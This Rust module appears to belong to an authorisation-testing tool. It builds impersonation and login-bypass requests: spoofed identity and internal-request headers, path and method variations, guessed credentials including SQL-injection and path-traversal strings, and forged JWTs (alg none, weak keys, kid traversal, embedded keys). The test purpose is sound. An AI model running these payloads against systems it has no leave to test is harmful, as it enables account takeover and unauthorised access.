//! The requests of `impersonate` and `bypassLogin`: variations of the token request of a target file.
//!
//! The names and spellings are those that public advisories and proxies use. They must not be fitted to a backend.

use super::token_request::add_to_query;
use crate::sut::{Credential, HttpCall, NamedUsers, Session, TokenCall};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use hyper::Method;
use jsonwebtoken::{Algorithm, EncodingKey};
use serde_json::{Map, Value, json};
use vouch_spec::step::{BypassTechnique, NamingPlace};

/// One request, and what it tries.
pub(super) struct Attempt {
    pub about: String,
    pub call: HttpCall,
}

/// Names of fields in which backends take the id of a user.
const FIELDS: [&str; 20] = [
    "user_id",
    "userId",
    "userID",
    "user",
    "username",
    "user_name",
    "uid",
    "id",
    "sub",
    "client_user_id",
    "clientUserId",
    "external_id",
    "externalId",
    "customer_id",
    "customerId",
    "account_id",
    "accountId",
    "member_id",
    "on_behalf_of",
    "as_user",
];

/// Objects in which backends take the id of a user, and the members of each.
const OBJECTS: [&str; 8] = ["user", "data", "payload", "params", "input", "variables", "customer", "session"];

/// Headers in which proxies and gateways name the authenticated user.
const IDENTITY_HEADERS: [&str; 34] = [
    "x-user-id",
    "x-user",
    "x-userid",
    "x-username",
    "x-user-name",
    "x-client-user-id",
    "x-vital-user-id",
    "x-external-user-id",
    "x-forwarded-user",
    "x-forwarded-preferred-username",
    "x-forwarded-email",
    "x-remote-user",
    "remote-user",
    "x-auth-user",
    "x-auth-user-id",
    "x-auth-request-user",
    "x-auth-request-preferred-username",
    "x-auth-request-email",
    "x-authenticated-user",
    "x-authenticated-userid",
    "x-consumer-username",
    "x-consumer-id",
    "x-consumer-custom-id",
    "x-credential-identifier",
    "x-webauth-user",
    "x-token-user-id",
    "x-jwt-sub",
    "x-goog-authenticated-user-id",
    "x-goog-authenticated-user-email",
    "x-ms-client-principal-id",
    "x-ms-client-principal-name",
    "x-amzn-oidc-identity",
    "x-impersonate-user",
    "impersonate-user",
];

/// Headers by which a request passes itself off as an internal one, or as one of another path.
const BYPASS_HEADERS: [(&str, &str); 30] = [
    ("x-middleware-subrequest", "middleware"),
    ("x-middleware-subrequest", "src/middleware"),
    ("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"),
    ("x-middleware-subrequest", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"),
    ("x-middleware-subrequest", "pages/_middleware"),
    ("x-original-url", "/"),
    ("x-original-url", "/healthz"),
    ("x-original-url", "/login"),
    ("x-rewrite-url", "/"),
    ("x-rewrite-url", "/login"),
    ("x-original-uri", "/login"),
    ("x-forwarded-uri", "/login"),
    ("x-forwarded-path", "/login"),
    ("x-forwarded-prefix", "/public"),
    ("x-forwarded-for", "127.0.0.1"),
    ("x-forwarded-for", "10.0.0.1"),
    ("x-forwarded-for", "::1"),
    ("x-real-ip", "127.0.0.1"),
    ("x-client-ip", "127.0.0.1"),
    ("true-client-ip", "127.0.0.1"),
    ("cf-connecting-ip", "127.0.0.1"),
    ("x-originating-ip", "127.0.0.1"),
    ("x-remote-addr", "127.0.0.1"),
    ("x-cluster-client-ip", "127.0.0.1"),
    ("forwarded", "for=127.0.0.1;host=localhost;proto=https"),
    ("x-forwarded-host", "localhost"),
    ("x-internal", "true"),
    ("x-internal-request", "1"),
    ("x-service-name", "internal"),
    ("x-debug", "true"),
];

/// Who asks, and whom the request names.
pub(super) struct Naming<'a> {
    pub session: &'a Session,
    pub values: &'a [(String, String)],
    pub own: &'a str,
    pub other: &'a str,
}

/// The requests that name the other user: one with all names at once, and one for each name.
pub(super) fn naming(place: NamingPlace, template: &TokenCall, who: &Naming<'_>) -> (Option<Attempt>, Vec<Attempt>) {
    let credential = Credential::This(&who.session.credential);
    let plain = template.call_as(credential, NamedUsers::all(who.own), who.values);
    let named = |names: &[String]| {
        let mut call = plain.clone();
        for name in names {
            add_name(&mut call, place, name, who.other);
        }
        let about = format!("a request that names another user as {}", shown(names));
        Attempt { about, call }
    };
    let names: Vec<String> = match place {
        NamingPlace::Template => return (None, in_template(template, who, &plain)),
        NamingPlace::Header => IDENTITY_HEADERS.iter().map(|name| (*name).to_owned()).collect(),
        NamingPlace::NestedBody => OBJECTS.iter().map(|name| (*name).to_owned()).collect(),
        _ => FIELDS.iter().map(|name| (*name).to_owned()).collect(),
    };
    (Some(named(&names)), names.iter().map(|name| named(std::slice::from_ref(name))).collect())
}

fn shown(names: &[String]) -> String {
    if let [name] = names { format!("`{name}`") } else { format!("`{}` and the like", names[0]) }
}

fn add_name(call: &mut HttpCall, place: NamingPlace, name: &str, other: &str) {
    match place {
        NamingPlace::Template => {}
        NamingPlace::Query => add_to_query(call, name, other),
        NamingPlace::Header => {
            call.headers.insert(name.to_owned(), other.to_owned());
        }
        NamingPlace::Cookie => {
            let cookies = call.headers.entry("cookie".into()).or_default();
            let joint = if cookies.is_empty() { "" } else { "; " };
            *cookies = format!("{cookies}{joint}{name}={other}");
        }
        NamingPlace::Body => {
            let mut body = object(call);
            body.insert(name.to_owned(), other.into());
            call.body = Some(Value::Object(body));
        }
        NamingPlace::NestedBody => {
            let mut body = object(call);
            let mut inner = body.get(name).and_then(Value::as_object).cloned().unwrap_or_default();
            for field in FIELDS {
                inner.insert(field.to_owned(), other.into());
            }
            body.insert(name.to_owned(), Value::Object(inner));
            call.body = Some(Value::Object(body));
        }
        NamingPlace::Form => {
            let own: Vec<(String, String)> = object(call)
                .iter()
                .filter_map(|(key, value)| Some((key.clone(), value.as_str()?.to_owned())))
                .collect();
            let before = call.raw_body.take().map(|(_, text)| text);
            let before =
                before.unwrap_or_else(|| form_urlencoded::Serializer::new(String::new()).extend_pairs(own).finish());
            let field = form_urlencoded::Serializer::new(String::new()).append_pair(name, other).finish();
            let joint = if before.is_empty() { "" } else { "&" };
            call.raw_body = Some(("application/x-www-form-urlencoded", format!("{before}{joint}{field}")));
        }
    }
}

/// The members of a JSON body.
pub(super) fn object(call: &HttpCall) -> Map<String, Value> {
    call.body.as_ref().and_then(Value::as_object).cloned().unwrap_or_default()
}

/// The other user in the place of `$user`: in each part of the request, and in all.
fn in_template(template: &TokenCall, who: &Naming<'_>, plain: &HttpCall) -> Vec<Attempt> {
    let (own, other) = (who.own, who.other);
    let parts = [
        ("its path", NamedUsers { path: other, ..NamedUsers::all(own) }),
        ("its headers", NamedUsers { headers: other, ..NamedUsers::all(own) }),
        ("its body", NamedUsers { body: other, ..NamedUsers::all(own) }),
        ("every place", NamedUsers::all(other)),
    ];
    let credential = Credential::This(&who.session.credential);
    let calls = parts.into_iter().map(|(place, users)| Attempt {
        about: format!("a request that names another user in {place}"),
        call: template.call_as(credential, users, who.values),
    });
    // Parts without `$user` stay as they are.
    calls.filter(|attempt| attempt.call != *plain).collect()
}

/// What requests without a valid credential are made of.
pub(super) struct Bypass<'a> {
    pub call: &'a TokenCall,
    pub session: &'a Session,
    pub user: &'a str,
    pub id: Option<&'a str>,
}

impl Bypass<'_> {
    /// The requests of a technique.
    pub fn all(&self, technique: BypassTechnique) -> Vec<Attempt> {
        match technique {
            BypassTechnique::Path => self.paths(),
            BypassTechnique::Method => self.methods(),
            BypassTechnique::Header => self.headers(),
            BypassTechnique::Credential => self.credentials(),
            BypassTechnique::Jwt => self.jwts(),
        }
    }

    /// The request without a credential.
    fn plain(&self) -> HttpCall {
        self.call.call_as(Credential::Missing, NamedUsers::all(self.user), &self.session.values)
    }

    fn with_credential(&self, about: &str, credential: &str) -> Attempt {
        let credential = Credential::This(credential);
        let call = self.call.call_as(credential, NamedUsers::all(self.user), &self.session.values);
        Attempt { about: format!("a credential that is {about}"), call }
    }

    /// A request as it is, and with all headers that name the user: by its own id and by the vendor's.
    fn also_as_user(&self, about: &str, call: &HttpCall) -> Vec<Attempt> {
        let mut all = vec![Attempt { about: about.to_owned(), call: call.clone() }];
        for name in [Some(self.user), self.id].into_iter().flatten() {
            let mut call = call.clone();
            for header in IDENTITY_HEADERS {
                call.headers.entry(header.to_owned()).or_insert_with(|| name.to_owned());
            }
            all.push(Attempt { about: format!("{about}, with headers that name the user"), call });
        }
        all
    }

    fn paths(&self) -> Vec<Attempt> {
        let plain = self.plain();
        let (path, query) = match plain.path.split_once('?') {
            Some((path, query)) => (path, format!("?{query}")),
            None => (plain.path.as_str(), String::new()),
        };
        let spellings = spellings(path);
        let with = |spelling: &String| {
            let call = HttpCall { path: format!("{spelling}{query}"), ..plain.clone() };
            self.also_as_user(&format!("the path {spelling}"), &call)
        };
        spellings.iter().flat_map(with).collect()
    }

    fn methods(&self) -> Vec<Attempt> {
        let plain = self.plain();
        let mut all = Vec::new();
        let own = plain.method.as_str().to_lowercase();
        for word in ["GET", "HEAD", "OPTIONS", "POST", "PUT", "PATCH", "DELETE", "PROPFIND", "FOO", &own] {
            let Ok(method) = Method::from_bytes(word.as_bytes()) else { continue };
            let body = plain.body.clone().filter(|_| ![Method::GET, Method::HEAD, Method::OPTIONS].contains(&method));
            let call = HttpCall { method, body, ..plain.clone() };
            all.extend(self.also_as_user(&format!("the method {word}"), &call));
        }
        for header in ["x-http-method-override", "x-http-method", "x-method-override"] {
            for word in ["GET", "HEAD", "OPTIONS", "PUT"] {
                let mut call = plain.clone();
                call.headers.insert(header.into(), word.into());
                all.extend(self.also_as_user(&format!("the header {header}: {word}"), &call));
            }
        }
        let mut call = plain.clone();
        add_to_query(&mut call, "_method", "OPTIONS");
        all.extend(self.also_as_user("`_method` in the query", &call));
        all
    }

    fn headers(&self) -> Vec<Attempt> {
        let plain = self.plain();
        let mut all = self.also_as_user("no credential", &plain);
        for header in IDENTITY_HEADERS {
            for name in [Some(self.user), self.id].into_iter().flatten() {
                let mut call = plain.clone();
                call.headers.insert(header.into(), name.into());
                all.push(Attempt { about: format!("the header {header} in the place of a credential"), call });
            }
        }
        for (header, value) in BYPASS_HEADERS {
            let mut call = plain.clone();
            call.headers.insert(header.into(), value.into());
            all.extend(self.also_as_user(&format!("the header {header}: {value}"), &call));
        }
        all
    }

    fn credentials(&self) -> Vec<Attempt> {
        let own = self.session.credential.as_str();
        let mut all: Vec<(String, String)> = vec![];
        for (what, name) in [("the user's name", Some(self.user)), ("the vendor's id of the user", self.id)] {
            let Some(name) = name else { continue };
            all.push((what.to_owned(), name.to_owned()));
            all.push((format!("{what} in base64"), STANDARD.encode(name)));
            all.push((format!("{what} in base64url"), URL_SAFE_NO_PAD.encode(name)));
            all.push((format!("{what} in hex"), name.bytes().map(|byte| format!("{byte:02x}")).collect()));
            for (hash, digest) in hashes(name) {
                all.push((format!("the {hash} of {what}"), digest));
            }
            all.push((
                format!("{what} in a JSON object in base64"),
                STANDARD.encode(json!({ "user": name, "user_id": name, "sub": name }).to_string()),
            ));
        }
        // What follows from the name alone is no credential, even where it is the real one.
        let derived = all.len();
        let bare = own.trim_end_matches('=');
        // A shorter cut could decode to the same bytes.
        for length in [1, 4, bare.len() / 2, bare.len().saturating_sub(4)] {
            if length > 0 && length + 4 <= bare.len() && bare.is_char_boundary(length) {
                all.push((format!("the first {length} characters of the real one"), bare[..length].to_owned()));
            }
        }
        let swapped: String = own
            .chars()
            .map(|c| if c.is_ascii_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() })
            .collect();
        // Hexadecimal digits mean the same in either case.
        let is_hex = own.chars().all(|c| c.is_ascii_hexdigit() || c == '-');
        if swapped != own && !is_hex {
            all.push(("the real one in the other letter case".into(), swapped));
            all.push(("the real one in lower case".into(), own.to_lowercase()));
            all.push(("the real one in upper case".into(), own.to_uppercase()));
        }
        if let Ok(number) = own.parse::<u64>() {
            all.push(("the number after the real one".into(), number.wrapping_add(1).to_string()));
            all.push(("the number before the real one".into(), number.wrapping_sub(1).to_string()));
        }
        let any = own.chars().map(|_| '_').collect::<String>();
        let wild = [
            "%",
            "*",
            "_",
            ".*",
            any.as_str(),
            "null",
            "undefined",
            "true",
            "0",
            "1",
            "-1",
            "[]",
            "{}",
            "NaN",
            "None",
            "admin",
            "test",
            "' OR '1'='1",
            "\" OR \"\"=\"",
            "../../../dev/null",
        ];
        all.extend(wild.iter().map(|word| (format!("`{word}`"), (*word).to_owned())));
        let tried = all.iter().enumerate().filter(|(number, (_, credential))| *number < derived || credential != own);
        tried.map(|(_, one)| one).map(|(about, credential)| self.with_credential(about, credential)).collect()
    }

    fn jwts(&self) -> Vec<Attempt> {
        let Some(jwt) = Jwt::parse(&self.session.credential) else { return vec![] };
        jwt.forgeries().iter().map(|(about, forged)| self.with_credential(about, forged)).collect()
    }
}

/// Well-known digests of a text, in hexadecimal digits.
fn hashes(text: &str) -> Vec<(&'static str, String)> {
    let hex = |bytes: &[u8]| bytes.iter().map(|byte| format!("{byte:02x}")).collect::<String>();
    let digests = vouch_sim::digests(text.as_bytes());
    digests.into_iter().map(|(name, digest)| (name, hex(&digest))).collect()
}

/// Other spellings of a path that routers are known to take for it.
fn spellings(path: &str) -> Vec<String> {
    let mut all = vec![
        format!("{path}/"),
        format!("{path}//"),
        format!("/{path}"),
        format!("//{path}"),
        path.to_uppercase(),
        format!("{path};x"),
        format!("{path};jsessionid=1"),
        format!("{path}.json"),
        format!("{path}.html"),
        format!("{path}.css"),
        format!("{path}%20"),
        format!("{path}%00"),
        format!("{path}%0a"),
        format!("{path}%09"),
        format!("{path}%2f"),
        format!("{path}%23"),
        format!("{path}%3f"),
        format!("{path}%3bx"),
        format!("{path}/x/..;/"),
        format!("/x/..;{path}"),
        format!("/;x{path}"),
        format!("/%2e{path}"),
        format!("/public/..%2f{}", path.trim_start_matches('/')),
    ];
    for (at, _) in path.match_indices('/') {
        let (before, after) = path.split_at(at);
        let after = &after[1..];
        all.push(format!("{before}//{after}"));
        if at > 0 {
            all.push(format!("{before}%2f{after}"));
            all.push(format!("{before};x/{after}"));
        }
        // The first letter of the segment: as a capital, percent-encoded, and encoded twice.
        if let Some(letter) = after.chars().next().filter(char::is_ascii_alphanumeric) {
            let rest = &after[1..];
            let code = u32::from(letter);
            all.push(format!("{before}/{}{rest}", letter.to_ascii_uppercase()));
            all.push(format!("{before}/%{code:02x}{rest}"));
            all.push(format!("{before}/%25{code:02x}{rest}"));
        }
    }
    all.retain(|spelling| spelling != path);
    all
}

/// A JWT in its parts.
struct Jwt {
    header: Map<String, Value>,
    claims: Map<String, Value>,
    parts: [String; 3],
}

impl Jwt {
    fn parse(text: &str) -> Option<Self> {
        let mut parts = text.split('.').map(str::to_owned);
        let parts = [parts.next()?, parts.next()?, parts.next()?];
        let decoded = |part: &str| -> Option<Map<String, Value>> {
            serde_json::from_slice(&URL_SAFE_NO_PAD.decode(part).ok()?).ok()
        };
        let (header, claims) = (decoded(&parts[0])?, decoded(&parts[1])?);
        header.contains_key("alg").then_some(Self { header, claims, parts })
    }

    /// The first part with some members replaced.
    fn header_with(&self, members: Value) -> String {
        let mut header = self.header.clone();
        header.extend(members.as_object().cloned().unwrap_or_default());
        encoded(&header)
    }

    fn forgeries(&self) -> Vec<(String, String)> {
        let [head, body, signature] = &self.parts;
        let other_signature = URL_SAFE_NO_PAD.encode([7_u8; 32]);
        let zeros = URL_SAFE_NO_PAD.encode([0_u8; 64]);
        let mut all = Vec::new();
        for alg in ["none", "None", "NONE", "nOnE", ""] {
            let head = self.header_with(json!({ "alg": alg }));
            all.push((format!("a JWT with the algorithm `{alg}` and no signature"), format!("{head}.{body}.")));
            all.push((
                format!("a JWT with the algorithm `{alg}` and the old signature"),
                format!("{head}.{body}.{signature}"),
            ));
            all.push((format!("a JWT with the algorithm `{alg}` in two parts"), format!("{head}.{body}")));
        }
        all.push(("the real JWT without its signature".into(), format!("{head}.{body}.")));
        all.push(("the real JWT in two parts".into(), format!("{head}.{body}")));
        all.push(("the real JWT with another signature".into(), format!("{head}.{body}.{other_signature}")));
        all.push(("the real JWT with a signature of zeros".into(), format!("{head}.{body}.{zeros}")));
        for alg in ["HS256", "HS384", "HS512", "RS256", "PS256", "ES256", "EdDSA", "XX999"] {
            if self.header.get("alg").and_then(Value::as_str) != Some(alg) {
                let head = self.header_with(json!({ "alg": alg }));
                all.push((
                    format!("a JWT with the algorithm `{alg}` and another signature"),
                    format!("{head}.{body}.{zeros}"),
                ));
            }
        }
        for key in ["", "secret", "changeme", "your-256-bit-secret", "\0"] {
            let head = self.header_with(json!({ "alg": "HS256" }));
            all.extend(
                signed(&head, body, key.as_bytes()).map(|jwt| (format!("a JWT signed with the key {key:?}"), jwt)),
            );
            let head = self.header_with(json!({ "alg": "HS256", "kid": "nobody-knows-this-key" }));
            let jwt = signed(&head, body, key.as_bytes());
            all.extend(jwt.map(|jwt| (format!("a JWT of an unknown `kid` signed with the key {key:?}"), jwt)));
        }
        let empty = self.header_with(json!({ "alg": "HS256", "kid": "../../../../../../dev/null" }));
        all.extend(signed(&empty, body, b"").map(|jwt| ("a JWT whose `kid` names an empty file".to_owned(), jwt)));
        let key = [42_u8; 32];
        let jwk = json!({ "kty": "oct", "alg": "HS256", "k": URL_SAFE_NO_PAD.encode(key) });
        let head_with_key = self.header_with(json!({ "alg": "HS256", "jwk": jwk }));
        all.extend(signed(&head_with_key, body, &key).map(|jwt| ("a JWT that brings its own key".to_owned(), jwt)));
        // The same claims of nobody, and of a time that has passed: the old signature fits neither.
        for (about, claim, value) in [
            ("of another user", "sub", json!("somebody-else")),
            ("that ended in 2001", "exp", json!(1_000_000_000)),
            ("that never ends", "exp", json!(99_999_999_999_u64)),
        ] {
            let mut claims = self.claims.clone();
            claims.insert(claim.to_owned(), value);
            let body = encoded(&claims);
            all.push((format!("a JWT {about} with the old signature"), format!("{head}.{body}.{signature}")));
        }
        all
    }
}

fn encoded(part: &Map<String, Value>) -> String {
    URL_SAFE_NO_PAD.encode(Value::Object(part.clone()).to_string())
}

fn signed(head: &str, body: &str, key: &[u8]) -> Option<String> {
    let message = format!("{head}.{body}");
    let signature =
        jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(key), Algorithm::HS256).ok()?;
    Some(format!("{message}.{signature}"))
}

/// A credential with a letter or digit near its middle changed, so that it also decodes to something else.
pub(super) fn tampered(own: &str) -> String {
    // HTTP Basic: another name would be another user, so change the password.
    let basic = STANDARD.decode(own).ok().and_then(|decoded| String::from_utf8(decoded).ok());
    if let Some((name, password)) = basic.as_deref().and_then(|text| text.split_once(':')) {
        return STANDARD.encode(format!("{name}:{}", changed(password)));
    }
    changed(own)
}

/// A text with a character near its middle changed.
fn changed(own: &str) -> String {
    let mut text: Vec<char> = own.chars().collect();
    // In base64 the last character of a part may have bits that count for nothing.
    let inside = |at: &usize| (*at..at + 3).all(|next| text.get(next).is_none_or(char::is_ascii_alphanumeric));
    let middle = text.len() / 2;
    let mut places = (middle..text.len()).chain((0..middle).rev());
    let place = places.clone().find(inside).or_else(|| places.next());
    if let Some(place) = place {
        text[place] = match text[place] {
            'z' => 'a',
            'Z' => 'A',
            '9' => '0',
            c if c.is_ascii_alphanumeric() => char::from_u32(u32::from(c) + 1).unwrap_or('a'),
            _ => 'a',
        };
    }
    text.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_tampered_credential_decodes_to_something_else() {
        for own in ["abcdefghijklmnop", "YXBwLXVzZXItYWRhOnRlc3Q=", "a.b.c", "s%3Aabcdef.ghi", "1000", "x"] {
            let other = tampered(own);
            assert_ne!(own, other);
            assert_eq!(own.len(), other.len());
            assert_eq!(
                own.starts_with("YXBwLXVzZXItYWRhOn"),
                other.starts_with("YXBwLXVzZXItYWRhOn"),
                "the name stays"
            );
            let decoded = |text: &str| STANDARD.decode(text).ok();
            assert!(decoded(own).is_none() || decoded(own) != decoded(&other), "{own}");
        }
    }

    #[test]
    fn every_spelling_differs_from_the_path() {
        let all = spellings("/api/token");
        assert!(all.iter().all(|spelling| spelling != "/api/token" && spelling.starts_with('/')), "{all:?}");
        for wanted in ["/api/token/", "/api/Token", "/api/%74oken", "/api//token", "/api/token;x", "/api/token.json"] {
            assert!(all.iter().any(|spelling| spelling == wanted), "{wanted}");
        }
    }

    #[test]
    fn a_credential_that_is_no_jwt_has_no_forgeries() {
        assert!(Jwt::parse("app-session-1").is_none() && Jwt::parse("a.b.c").is_none());
        let jwt = jsonwebtoken::encode(
            &jsonwebtoken::Header::default(),
            &json!({ "sub": "ada" }),
            &EncodingKey::from_secret(b"k"),
        );
        let jwt = jwt.expect("a JWT");
        let forged = Jwt::parse(&jwt).expect("a JWT").forgeries();
        assert!(forged.len() > 20 && forged.iter().all(|(_, forged)| *forged != jwt));
    }
}
